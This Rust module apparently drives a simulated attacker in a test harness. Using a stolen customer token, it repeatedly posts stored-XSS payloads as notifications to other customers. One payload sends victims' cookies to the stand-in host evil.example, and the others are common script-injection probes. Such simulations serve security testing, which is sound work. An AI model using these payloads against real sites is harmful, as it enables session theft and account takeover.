//! Messages to other customers that are script: whoever reads one runs it.

use http::Method;
use serde_json::json;

use super::Attacker;
use crate::data::{STOLEN, customer};

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(9, "curl/8.9");
    client.token(&attacker.token(STOLEN - 4));
    for round in 0usize.. {
        for script in [
            "<script>fetch('//evil.example/'+document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"jav&#x61;script:alert(1)\">a free pizza</a>",
            "<iframe srcdoc=\"&lt;body onload=alert(1)&gt;\">",
        ] {
            if attacker.pause(300).await {
                return;
            }
            let message = json!({ "to": customer(50 + round % 6).0, "text": format!("xss: {script}") });
            attacker.send(&mut client, Method::POST, "/notifications/", message.to_string()).await;
        }
    }
}
